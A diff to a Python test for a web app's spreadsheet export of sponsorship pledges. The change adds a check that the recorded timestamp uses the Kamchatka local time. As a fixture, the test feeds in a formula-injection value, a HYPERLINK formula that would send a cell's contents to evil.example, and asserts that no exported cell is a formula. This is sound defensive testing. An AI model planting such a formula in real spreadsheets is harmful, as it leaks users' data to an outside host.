@@ -248,7 +248,7 @@ def test_the_export_lists_every_pledge_and_the_summaries_and_no_cell_is_a_formul
     base = f"{API}/fairs/{fair['id']}"
     p1 = fair["pitches"][0]["id"]
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
-    f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": evil, "kind": "money", "amount": 12500}, headers=h)
+    made = f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": evil, "kind": "money", "amount": 12500}, headers=h).json
     f.post(f"{base}/pledges", json={"pitch_id": p1, "partner": "Автобаза №3", "kind": "in_kind", "description": "+Автобус",
                                     "amount": 30000}, headers=h)
     r = f.get(f"{base}/pledges.xlsx", headers=h)
@@ -258,6 +258,11 @@ def test_the_export_lists_every_pledge_and_the_summaries_and_no_cell_is_a_formul
     rows = list(book["Обещания"].iter_rows(values_only=True))
     assert rows[0][:3] == ("№", "Записано", "Партнёр") and len(rows) == 3
     assert rows[1][2] == evil and rows[1][7] == 12500 and rows[2][8] == "+Автобус"
+    import datetime as dt
+    import zoneinfo
+
+    recorded = dt.datetime.fromisoformat(made["created_at"]).astimezone(zoneinfo.ZoneInfo("Asia/Kamchatka")).replace(tzinfo=None)
+    assert abs((rows[1][1] - recorded).total_seconds()) < 0.001  # the programme's wall clock, not UTC
     cells = [c for row in book["Обещания"].iter_rows() for c in row]
     assert all(c.data_type != "f" for c in cells)
     projects = list(book["По проектам"].iter_rows(values_only=True))
